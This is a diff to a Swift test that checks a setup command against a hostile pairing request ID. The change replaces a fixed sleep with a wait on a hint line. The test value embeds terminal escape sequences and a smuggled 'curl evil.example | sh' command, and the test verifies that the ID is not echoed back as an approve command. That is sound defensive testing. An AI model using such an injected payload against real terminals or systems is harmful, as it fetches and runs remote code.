@@ -29,8 +29,8 @@ import Testing
         let hostile: JSONValue = ["cmd": "pairing-request-id", "requestId": "1b2c\u{1B}[2J\u{1B}]0;owned\u{07}; curl evil.example | sh"]
         _ = try await offPool { try gw.control(hostile.jsonText) }
         let running = try command.start(["setup", "--gateway", gw.startup.url], environment: ["OPENCLAW_TALK_TOKEN": Self.token])
-        #expect(await running.waitForStderr("Waiting for approval"), "stderr: \(running.stderrSoFar)")
-        try await Task.sleep(for: .milliseconds(300))
+        // The hint is the approval wait's last line: once it shows, everything setup says of the request has.
+        #expect(await running.waitForStderr("openclaw devices list"), "stderr: \(running.stderrSoFar)")
         kill(running.process.processIdentifier, SIGINT)
         let r = try await running.finish(timeout: .seconds(20))
         #expect(!r.stderr.contains("devices approve"), "a hostile id was offered as a command: \(r.stderr)")
